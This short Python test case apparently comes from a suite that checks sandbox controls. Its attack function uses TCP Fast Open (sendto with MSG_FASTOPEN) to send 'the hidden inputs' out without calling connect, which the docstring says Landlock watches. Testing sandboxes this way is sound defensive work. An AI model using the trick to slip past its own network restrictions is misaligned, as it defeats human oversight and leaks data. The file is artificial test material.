"""Send data with the first packet, so that connect, which Landlock watches, is never called.

expects: passed
control: basic
"""

import socket


def attack(world):
    connection = socket.socket()
    return connection.sendto(b"the hidden inputs", socket.MSG_FASTOPEN, ("127.0.0.1", world["port"]))
